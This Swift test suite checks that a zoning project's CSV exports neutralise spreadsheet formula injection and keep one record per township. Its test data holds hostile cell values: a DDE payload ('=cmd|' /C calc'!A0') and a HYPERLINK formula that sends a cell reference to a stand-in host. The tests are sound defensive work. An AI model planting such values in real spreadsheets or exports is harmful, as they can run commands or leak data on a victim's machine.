import Foundation
import Testing
@testable import Zoning

/// The CSV tables (stats.csv, prevention_stats.csv, sensitivity.csv, changes.csv) with township
/// names a spreadsheet would run as formulas or that break records, read back by Python's csv
/// module (the oracle): one record per township, text cells never formulas, numbers as numbers,
/// plain cells as they always were.
@Suite struct CSVTests {
    /// Names that start a formula in Excel or LibreOffice, break a record, or need quotes; then plain ones.
    static let hostile = ["=HYPERLINK(\"http://example.invalid/?x=\"&A1,\"点击\")", "+1+1", "-1", "@SUM(1)", "\tTab",
                          "\rCR", "西乡\n东乡", "a\r\nb", "逗号,乡", "say \"hi\""]
    static let plain = ["西乡", "Xixiang town", "1 乡"]

    /// What a spreadsheet shows for a name: a formula start behind a quote, else the name.
    static func shown(_ name: String) -> String {
        let formula: Set<Unicode.Scalar> = ["=", "+", "-", "@", "\t", "\r"]
        return formula.contains(name.unicodeScalars.first!) ? "'" + name : name
    }

    /// The records of a CSV text as Python's csv module reads them (a leading BOM dropped).
    static func records(_ text: String) throws -> [[String]] {
        let project = try Project()
        let file = try project.write("table.csv", text)
        let out = try shell("/usr/bin/python3", ["-c", """
            import csv, json, sys
            with open(sys.argv[1], encoding='utf-8-sig', newline='') as f:
                print(json.dumps(list(csv.reader(f))))
            """, file])
        return try JSONDecoder().decode([[String]].self, from: Data(out.utf8))
    }

    func statisticsRow(_ id: Int, _ name: String) -> TownshipStatistics {
        TownshipStatistics(id: id, code: "-15062510\(id)", name: name, english: "=cmd|' /C calc'!A0", validPixels: 10, validAreaHa: -0.9,
                           meanIndex: 0.5, maxIndex: 0.9, dominantClass: 2, dominantClassName: "+黄", level: 2, levelName: "@黄",
                           classes: [.init(value: 1, name: "蓝", pixels: 4, areaHa: 0.36, percent: 40)],
                           totals: [.init(name: "persons_total", value: -12.5)])
    }

    @Test func everyTableKeepsOneRecordPerTownshipAndNoFormulas() throws {
        let names = Self.hostile + Self.plain
        let scheme = ClassScheme.custom([(name: "蓝", english: "blue", rgb: (0, 0, 255))])
        let stats = try Self.records(TownshipTablesStage.statisticsCSV(names.enumerated().map { statisticsRow($0 + 1, $1) }, scheme: scheme))
        try #require(stats.count == names.count + 1, "\(stats)")
        for (i, name) in names.enumerated() {
            let row = stats[i + 1]
            #expect(row[0] == "\(i + 1)" && row[2] == Self.shown(name), "stats.csv row \(i + 1): \(row)")
            // Codes and English names are text: a leading '-' or '=' is neutralised too; numbers stay numbers.
            #expect(row[1] == "'-15062510\(i + 1)" && row[3] == "'=cmd|' /C calc'!A0" && row[4] == "-0.900000", "\(row)")
            #expect(row[8] == "'+黄" && row[10] == "'@黄" && row.last == "-12.500000", "\(row)")
        }

        let categories = [JobSpec.Category(value: 1, name: "=重点", english: nil, red: 0, green: 0, blue: 0)]
        let prevention = try Self.records(PreventionStage.preventionStatisticsCSV(names.enumerated().map {
            TownshipPreventionStatistics(id: $0 + 1, code: nil, name: $1, english: nil, validPixels: 1, validAreaHa: 1,
                                         dominantCategory: 1, dominantCategoryName: "=重点", categories: [])
        }, categories: categories))
        #expect(prevention.count == names.count + 1 && prevention[0][7] == "'=重点面积(公顷) category_1_area_ha", "\(prevention[0])")
        #expect(zip(names, prevention.dropFirst()).allSatisfy { Self.shown($0) == $1[2] && $1[6] == "'=重点" }, "\(prevention)")

        let sensitivity = try Self.records(SensitivityStage.sensitivityCSV(names.enumerated().map {
            TownshipSensitivity(id: $0 + 1, name: $1, validPixels: 1, validAreaHa: 1, stablePercent: 100, atLeast80Percent: 100,
                                below50Percent: 0, level: -1, scenarioLevels: [2], lowestLevel: 2, highestLevel: 2, levelChanges: false)
        }, scenarios: 1))
        #expect(sensitivity.count == names.count + 1, "\(sensitivity)")
        #expect(zip(names, sensitivity.dropFirst()).allSatisfy { Self.shown($0) == $1[1] && $1[6] == "-1" }, "\(sensitivity)")

        let project = try Project()
        let changesPath = project.path("changes.csv")
        try ChangeReport.writeChangesCSV([], townships: names.map {
            ChangeReport.TownshipChange(townshipCode: "=1", township: $0, previousLevel: 1, previousLevelName: "-低", level: 2,
                                        levelName: "中", change: "up", transitions: [])
        }, totalNames: ["persons"], to: changesPath)
        let changes = try Self.records(try String(contentsOfFile: changesPath, encoding: .utf8))
        #expect(changes.count == names.count + 1, "\(changes)")
        #expect(zip(names, changes.dropFirst()).allSatisfy { Self.shown($0) == $1[1] && $1[0] == "'=1" && $1[3] == "'-低" }, "\(changes)")
    }

    /// Plain cells are written as they always were (the demo's products stay byte-identical):
    /// only commas and quotes are quoted, nothing is prefixed.
    @Test func plainCellsAreUnchanged() {
        for name in Self.plain + ["150625101", "橙 orange (high)", "a'b", "1-2", "x=y", ""] { #expect(csvText(name) == name) }
        #expect(csvText("a,b") == "\"a,b\"" && csvText("say \"hi\"") == "\"say \"\"hi\"\"\"")
        #expect(csvText("西乡\n东乡") == "\"西乡\n东乡\"" && csvText("=1+1") == "'=1+1" && csvText("=\"a\",1") == "\"'=\"\"a\"\",1\"")
        let row = statisticsRow(1, "西乡")
        let line = TownshipTablesStage.statisticsCSV([TownshipStatistics(id: 1, code: "150625101", name: "西乡", english: nil, validPixels: 10,
                                                                         validAreaHa: 0.9, meanIndex: 0.5, maxIndex: 0.9, dominantClass: 2,
                                                                         dominantClassName: "黄", level: 2, levelName: "黄",
                                                                         classes: row.classes, totals: row.totals)],
                                                     scheme: .custom([(name: "蓝", english: "blue", rgb: (0, 0, 255))]))
        #expect(line.split(separator: "\n")[1] == "1,150625101,西乡,,0.900000,0.500000,0.900000,2,黄,2,黄,0.360000,40.000000,-12.500000")
    }
}
